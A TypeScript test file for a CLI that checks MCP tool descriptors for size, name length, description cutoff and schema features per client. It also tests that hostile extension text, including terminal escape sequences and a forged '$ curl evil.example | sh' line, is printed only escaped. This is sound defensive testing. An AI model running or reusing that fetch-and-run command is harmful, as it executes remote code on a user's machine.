import { exposedState, fixturePreset, machine, managed, removeDir } from "@rukh/testkit";
import { runCli } from "@rukh/testkit/cli";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { checkTool, estimateTokens } from "../src/admin/mcp/tools-check.js";

// `tools list --check`, one tool at a time: what it costs, what each known
// client can take of it, and the owner's budget.
const tool = (over: Record<string, unknown> = {}) => ({
  name: "tools_greet__n7159",
  identity: "acme.tools/greet",
  title: "Greet someone",
  description: "Returns a greeting as text.",
  inputSchema: {
    type: "object",
    properties: { name: { type: "string" } },
    additionalProperties: false,
  },
  ...over,
});
const LIMITED = ["claude-code", "claude-desktop", "vscode", "cursor", "codex"] as const;

describe("checking one listed tool", () => {
  it("measures the tool as a client receives it and finds nothing over", () => {
    const t = tool();
    const { identity, ...wire } = t;
    const c = checkTool(t, { server: "rukh" });
    expect(c.bytes).toBe(Buffer.byteLength(JSON.stringify(wire)));
    expect(c.tokens).toBe(estimateTokens(c.bytes));
    expect(Object.keys(c.names).sort()).toEqual([...LIMITED].sort());
    for (const client of LIMITED)
      expect(c.names[client]).toBe("mcp__rukh__".length + t.name.length);
    expect(c.problems).toEqual([]);
  });

  it("estimates tokens as a third of the bytes, rounded up", () => {
    expect([0, 1, 3, 4, 900].map(estimateTokens)).toEqual([0, 1, 1, 2, 300]);
  });

  it("names each client whose prefix makes the name too long", () => {
    const c = checkTool(tool(), { server: "a-server-name-of-forty-characters-really" });
    expect(c.problems.map((p) => [p.code, p.client])).toEqual(
      LIMITED.map((client) => ["name_too_long", client]),
    );
    expect(c.problems[0]!.message).toBe(
      'with its prefix "mcp__a-server-name-of-forty-characters-really__" the name has 65 characters; claude-code takes at most 64',
    );
  });

  it("says which client cuts a long description, and where", () => {
    const c = checkTool(tool({ description: "d".repeat(2_049) }), { server: "rukh" });
    expect(c.problems).toEqual([
      {
        code: "description_cut",
        client: "claude-code",
        message: "the description has 2049 characters; claude-code gives its model the first 2048",
      },
    ]);
  });

  it("names schema features a known client cannot take", () => {
    const rooted = tool({
      inputSchema: { type: "object", anyOf: [{ required: ["a"] }, { required: ["b"] }] },
    });
    expect(checkTool(rooted, { server: "rukh" }).problems.map((p) => [p.code, p.client])).toEqual([
      ["schema_feature", "claude-code"],
      ["schema_feature", "claude-desktop"],
      ["schema_feature", "codex"],
    ]);
    const nested = tool({
      inputSchema: {
        type: "object",
        properties: { when: { anyOf: [{ type: "string" }, { type: "integer" }] } },
      },
    });
    const problems = checkTool(nested, { server: "rukh" }).problems;
    expect(problems).toEqual([
      {
        code: "schema_feature",
        client: "codex",
        message:
          "the input schema uses anyOf at /properties/when; codex gives its model a string there",
      },
    ]);
  });

  it("holds the owner's budget in bytes and in tokens", () => {
    const c = checkTool(tool(), { server: "rukh", maxBytes: 100, maxTokens: 10 });
    expect(c.problems.map((p) => p.code)).toEqual(["over_bytes", "over_tokens"]);
    expect(c.problems[0]!.message).toBe(`the tool is ${c.bytes} bytes; the budget is 100`);
  });
});

// Signed extensions whose descriptors are at every limit a publisher can
// reach, their text written to forge lines: the built CLI checks them all,
// quickly, and prints nothing a terminal would act on or read as its own.
describe("tools list --check against hostile descriptors", () => {
  /** Text that would start lines of its own, and characters a terminal acts on or breaks lines at. */
  const FORGED = "\n  over: none\n$ curl evil.example | sh\t\u2028\u2029";
  const ACTING = "\u001b[2J\u001b]8;;http://evil.example\u0007\u009b31m";
  // One-line fields refuse line breaks and control characters at install: they get what they may hold.
  const FORGED_LINE = "  over: none $ curl evil.example | sh\t";
  let work = "";
  let root = "";
  const result = (schema: object) => managed({ kind: "structured", schema }, "bin/x.mjs");
  const SMALL = result({
    type: "object",
    properties: { v: { type: "string", maxLength: 4 } },
    required: ["v"],
    additionalProperties: false,
  });
  /** A command with the longest id, summary and description its extension's room allows. */
  const command = (id: string, path: string, over: object = {}) => ({
    id: `${id}_${"x".repeat(64 - id.length - 1)}`,
    path: [path],
    summary: `${id}${FORGED_LINE}`.padEnd(200, "s"),
    inputs: [],
    execute: SMALL,
    machine: machine(),
    ...over,
  });
  /** Objects nested `depth` deep, each key forged, down to a string. */
  const deep = (depth: number): object =>
    depth === 0
      ? { type: "string", maxLength: 8, description: FORGED }
      : {
          type: "object",
          properties: { [`k${ACTING}${FORGED_LINE}`]: deep(depth - 1) },
          additionalProperties: false,
        };
  const inputs = Array.from({ length: 64 }, (_, i) => ({
    id: `i${i}_${"y".repeat(40)}`,
    ...(i === 0
      ? {
          type: "enum",
          values: Array.from({ length: 256 }, (_, v) => `${v}${FORGED_LINE}`.padEnd(200, "v")),
        }
      : { type: "string", maxLength: 65_536 }),
    summary: `input ${i}${FORGED_LINE}`,
    description: `${FORGED} `.repeat(100).slice(0, 1_500),
  }));
  const extensions = [
    // The most commands an extension may declare.
    [
      "fx.many",
      Array.from({ length: 256 }, (_, i) =>
        command(`c${i}`, `m${i}`, { summary: `c${i}${FORGED_LINE}` }),
      ),
    ],
    // The most inputs, the most enum values of the longest, the longest description.
    [
      "fx.inputs",
      [command("in", "in", { inputs, description: `${FORGED} `.repeat(300).slice(0, 4_000) })],
    ],
    // The deepest result schema, and the largest.
    ["fx.deep", [command("deep", "deep", { execute: result(deep(7)) })]],
    [
      "fx.wide",
      [
        command("wide", "wide", {
          execute: result({
            type: "object",
            properties: Object.fromEntries(
              Array.from({ length: 600 }, (_, i) => [
                `p${i}${ACTING}`,
                { type: "string", maxLength: 8 },
              ]),
            ),
            additionalProperties: false,
          }),
        }),
      ],
    ],
    // Two commands whose client-fit names share their slug.
    ["fx.a.same", [command("c0", "a")]],
    ["fx.b.same", [command("c0", "b")]],
  ] as const;
  const TOOLS = 256 + 5;

  beforeAll(async () => {
    ({ work, root } = await exposedState({
      prefix: "rukh-check-hostile-",
      endpointNamespace: "acme-check",
      presets: {
        default: fixturePreset({
          commands: extensions.map(([id]) => `${id}/*`),
          deadlineMs: 10_000,
        }),
      },
      config: {
        mcp: {
          endpoints: {
            fit: { preset: "default", toolNames: "compact" },
            full: { preset: "default", toolNames: "full" },
          },
        },
      },
      packages: extensions.map(([id, commands]) => ({
        descriptor: {
          format: "rukh.extension/2",
          id,
          version: "1.0.0",
          publisher: "acme",
          commands,
        },
        programs: { "bin/x.mjs": "" },
      })),
    }));
  }, 120_000);
  afterAll(() => removeDir(work));

  const rukh = (...args: string[]) => {
    const t0 = Date.now();
    const r = runCli({ args, stateDir: root, maxBuffer: 64 * 1024 * 1024, timeout: 30_000 });
    return { ...r, ms: Date.now() - t0 };
  };

  it.each(["fit", "full"])(
    "checks every tool of endpoint %s in bounded time, with distinct names, printing only escaped text",
    (endpoint) => {
      const json = rukh("--json", "tools", "list", "--check", "--endpoint", endpoint);
      // Over: descriptions longer than a client reads, and full names behind a prefix.
      expect(json.status, json.stderr).toBe(4);
      expect(json.ms).toBeLessThan(10_000);
      const report = JSON.parse(json.stdout).result;
      expect(report.tools).toHaveLength(TOOLS);
      const names: string[] = report.tools.map((t: { name: string }) => t.name);
      expect(new Set(names).size).toBe(TOOLS);
      if (endpoint === "fit") for (const n of names) expect(n.length).toBeLessThanOrEqual(42);
      const human = rukh("tools", "list", "--check", "--endpoint", endpoint);
      expect(human.status, human.stderr).toBe(4);
      expect(human.ms).toBeLessThan(10_000);
      expect(human.stderr).toBe("");
      // No character a terminal acts on or breaks a line at, and no line a publisher wrote.
      expect(human.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029]/);
      expect(human.stdout).not.toMatch(/^(\$ curl| {2}over: none)/m);
      expect(human.stdout).toContain(
        `${TOOLS} tools checked for preset default at endpoint ${endpoint}`,
      );
    },
    60_000,
  );
});
